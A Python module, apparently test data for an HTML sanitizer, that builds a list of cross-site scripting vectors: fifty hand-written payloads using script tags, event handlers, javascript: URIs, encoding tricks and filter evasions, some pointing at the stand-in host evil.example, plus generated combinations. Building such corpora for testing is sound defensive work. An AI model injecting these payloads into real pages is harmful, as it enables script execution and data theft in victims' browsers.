"""Markup that wants to run in somebody else's browser: ways in, each with a script that would leave a trace.

What runs calls ``pwn()``, asks ``//evil.example``, or leaves an element with ``data-v``. The first 50 are one of each
kind; the others are their combinations.
"""

from itertools import chain, product

RUN = "pwn()"
FIRST = [
    "<script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</script><script>pwn()</script>",
    "</style><img src=x onerror=pwn()>",
    "--><img src=x onerror=pwn()>",
    "]]><img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()>",
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    "`><img src=x onerror=pwn()>",
    '" onmouseover="pwn()" data-v="1',
    "' onfocus='pwn()' autofocus data-v='1",
    '" autofocus onfocus=pwn() data-v=1 x="',
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
    "<math><mtext><script>pwn()</script></mtext></math>",
    "<math><a xlink:href=javascript:pwn()>x</a></math>",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example/><input name=a data-v=1></form>",
    "<button formaction=javascript:pwn() form=x>x</button>",
    "<details open ontoggle=pwn()>x</details>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<body onload=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    '<p style="background:url(//evil.example/x)" data-v=1>x</p>',
    "<img src=//evil.example/x.png>",
    "<a href=javascript:pwn()>x</a>",
    '<a href="java\tscript:pwn()">x</a>',
    '<a href="&#106;avascript:pwn()">x</a>',
    "<a href=data:text/html,<script>pwn()</script>>x</a>",
    "<a href=vbscript:pwn()>x</a>",
    "<template><img src=x onerror=pwn()></template>",
    '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "&lt;img src=x onerror=pwn()&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "<input autofocus onfocus=pwn()>",
    "{{constructor.constructor('pwn()')()}}",
    "<x is=y data-v=1 onclick=pwn() tabindex=0 contenteditable>x</x>",
]
_OPENINGS = ["", '">', "'>", "</p>", "</a>", "</textarea>", "</title>", "</script>", "-->", "\x0b", "<<", "&#x3e;"]
_ELEMENTS = [
    "<img src=x {on}>",
    "<IMG/SRC=x/{on}>",
    "<img src='x'{on}>",
    "<svg {on}>",
    "<svg/{on}//",
    "<input {on} autofocus>",
    "<select {on} autofocus>",
    "<details {on} open>",
    "<a {on} href=#x>x</a>",
    "<p {on} style=animation-name:x>x",
    "<video src=x {on}>",
    "<iframe {on}>",
    "<body {on}>",
    "<object data=x {on}>",
]
_HANDLERS = ["onerror=pwn()", "onload=pwn()", 'onfocus="pwn()"', "OnErRoR\n=pwn()", "onpointerover=pwn&#40;)"]
_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "data:text/html,",
    "//",
]
_LINKS = [
    '<a href="{to}">x</a>',
    "<a href={to}>x</a>",
    '<iframe src="{to}">',
    '<form action="{to}"><button>x',
    '<area href="{to}">',
    "[x]({to})",
    '<base href="{to}">',
    '<svg><use href="{to}#x">',
]


def _combinations() -> list[str]:
    handled = (
        opening + element.format(on=handler) for opening, element, handler in product(_OPENINGS, _ELEMENTS, _HANDLERS)
    )
    linked = (
        opening + link.format(to=scheme + "pwn()") for opening, link, scheme in product(_OPENINGS[:4], _LINKS, _SCHEMES)
    )
    return [*list(handled)[::2], *linked]


VECTORS = list(dict.fromkeys(chain(FIRST, _combinations())))
